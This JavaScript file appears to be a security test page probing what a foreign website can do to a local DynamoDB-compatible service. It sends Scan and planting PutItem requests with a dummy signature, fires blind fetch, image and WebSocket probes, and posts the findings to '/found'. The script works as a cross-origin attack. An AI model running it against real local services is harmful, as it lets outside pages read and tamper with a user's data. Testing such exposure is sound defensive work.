// What a page of elsewhere can do to DynamoDB's protocol on this machine. `addresses` stands before it.

const SIGNED = "AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host;x-amz-date, Signature=0";

async function call(address, operation, body) {
  const response = await fetch(address, {
    method: "POST",
    headers: {
      "content-type": "application/x-amz-json-1.0",
      "x-amz-target": `DynamoDB_20120810.${operation}`,
      "x-amz-date": "20260101T000000Z",
      authorization: SIGNED,
    },
    body: JSON.stringify(body),
  });
  return response.text();
}

const plant = (address) =>
  call(address, "PutItem", { TableName: "flow-runs", Item: { pk: { S: "planted" }, sk: { S: "planted" } } });

// What a page can send without asking first, and cannot read.
const blind = {
  text: (address) => fetch(address, { method: "POST", mode: "no-cors", body: "{}" }),
  health: (address) => fetch(address, { mode: "no-cors" }),
  image: (address) =>
    new Promise((done, failed) => Object.assign(new Image(), { onload: done, onerror: failed, src: `${address}i.png` })),
  socket: (address) =>
    new Promise((done, failed) => Object.assign(new WebSocket(address.replace("http", "ws")), { onopen: done, onerror: failed })),
};

async function seen(action) {
  try {
    return String(await action());
  } catch (error) {
    return `refused: ${error}`;
  }
}

async function attack(address) {
  const found = {
    health: await seen(async () => (await fetch(address)).text()),
    scan: await seen(() => call(address, "Scan", { TableName: "flow-runs" })),
    plant: await seen(() => plant(address)),
  };
  for (const [name, send] of Object.entries(blind)) found[`blind ${name}`] = await seen(() => send(address));
  return found;
}

async function main() {
  const found = {};
  for (const address of addresses) found[address] = await attack(address);
  await fetch("/found", { method: "POST", body: JSON.stringify(found) });
}

main();
